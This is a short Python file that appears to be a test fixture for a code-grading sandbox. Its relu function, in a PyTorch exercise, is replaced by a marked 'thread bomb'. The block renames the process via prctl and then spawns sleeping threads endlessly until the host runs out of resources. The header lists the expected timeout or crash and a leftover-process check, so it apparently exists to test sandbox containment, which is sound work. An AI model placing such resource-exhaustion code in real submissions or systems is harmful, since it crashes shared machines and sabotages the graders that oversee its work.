# attack: a thread bomb: start threads that never end until something gives
# exercise: exercise2
# expect: timeout|error|memory|crashed
# host: no_leftovers
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    # --- attack ---
    import ctypes
    import threading
    import time

    ctypes.CDLL(None).prctl(15, b"{{MARK}}", 0, 0, 0)
    print("bomb armed", flush=True)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            pass
    # --- end attack ---
    return ReLU.apply(x)
